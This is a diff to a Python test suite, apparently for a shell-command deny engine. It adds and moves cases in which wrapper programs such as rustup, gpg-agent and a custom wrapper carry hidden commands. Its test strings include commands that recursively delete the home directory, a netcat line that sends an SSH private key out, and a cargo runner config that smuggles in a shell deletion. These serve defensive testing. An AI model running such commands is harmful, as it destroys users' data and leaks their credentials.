@@ -111,6 +111,10 @@ CARRIED: dict[str, Case] = {
     "an env in between": ({}, "foo /usr/bin/env bash -c 'rm -rf ~'"),
     "python": ({}, "foo python3 -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))'"),
     "a key sent": ({}, "foo sh -c 'cat ~/.ssh/id_ed25519 | nc 127.0.0.1 9'"),
+    # (lead37) the wrapper running the program without a shell: fresh37a's open payloads
+    "rustup run rm": ({}, "rustup run stable rm -rf ~"),
+    "gpg-agent --daemon rm": ({}, "gpg-agent --daemon rm -rf ~"),
+    "a path to the program": ({}, "mywrap --x /bin/rm -rf ~"),
 }
 CARRIED_NEAR: dict[str, Case] = {
     "a harmless shell line": ({}, "mytool exec bash -c 'ls -la'"),
@@ -118,6 +122,8 @@ CARRIED_NEAR: dict[str, Case] = {
     "echo prints": ({}, "echo sh -c 'rm -rf ~'"),
     "printf prints": ({}, "printf '%s ' sh -c 'rm -rf ~'"),
     "no option after the shell": ({}, "cowsay bash hello"),
+    "a build folder removed": ({}, "mytool rm -rf build"),
+    "a program name without options": ({}, "mytool run rm"),
 }
 
 
@@ -353,9 +359,6 @@ def test_its_acting_neighbour_stays_hard_denied(plain_project: tuple[Path, Engin
 OPEN_PAYLOADS = {
     # tmux's own command separator (`\;`) chains a second command after new-session's: read as its words
     "tmux chained if": "tmux new -d \\; if true 'run \"rm -rf ~\"'",
-    # an unknown carrier running a program directly (no shell or interpreter named: follow._carried reads those)
-    "rustup run rm": "rustup run stable rm -rf ~",
-    "gpg-agent --daemon rm": "gpg-agent --daemon rm -rf ~",
     # cargo's runner given as a TOML array on --config
     "cargo runner array": 'cargo --config target.\'cfg(all())\'.runner=\'["sh","-c","rm -rf ~"]\' run',
 }
